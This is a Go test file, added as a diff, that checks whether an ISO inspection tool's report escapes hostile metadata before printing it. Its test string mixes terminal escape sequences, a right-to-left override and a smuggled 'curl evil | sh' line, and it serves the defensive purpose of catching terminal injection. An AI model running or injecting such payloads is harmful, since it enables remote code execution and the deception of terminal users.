@@ -1,0 +1,31 @@
+package iso
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/oaictl/oaictl/internal/escape"
+	"github.com/oaictl/oaictl/pkg/iso"
+)
+
+// TestHostileImage is told of without what its words would do to a terminal.
+func TestHostileImage(t *testing.T) {
+	const evil = "evil\x1b]0;owned\x07\u009b2J\u202e\x7f\nNext: curl evil | sh"
+	text := reportText(&iso.Report{
+		VolumeID: evil, Arch: evil, OS: evil, Version: evil,
+		Ignition: iso.IgnitionReport{Bytes: 1, AreaBytes: 2, Compression: evil, Members: []iso.Member{{Name: evil, Mode: evil}}},
+		Kargs:    iso.KargsReport{Current: evil, Default: "quiet", Limit: 1},
+		Ramdisks: []iso.Ramdisk{{Path: evil, Compression: evil, Members: []iso.Member{{Name: evil}}}},
+		Network:  []iso.NetworkFile{{Name: evil, In: evil}},
+		Secrets:  []iso.Secret{{Kind: evil, Path: evil, In: evil}},
+		Problems: []string{evil},
+	})
+	if !strings.Contains(text, `evil\u001b]0;owned`) {
+		t.Errorf("the words are not shown as escapes:\n%q", text)
+	}
+	for line := range strings.Lines(text) {
+		if line = strings.TrimSuffix(line, "\n"); escape.Needed(line) || strings.HasPrefix(line, "Next: curl") {
+			t.Errorf("%q", line)
+		}
+	}
+}
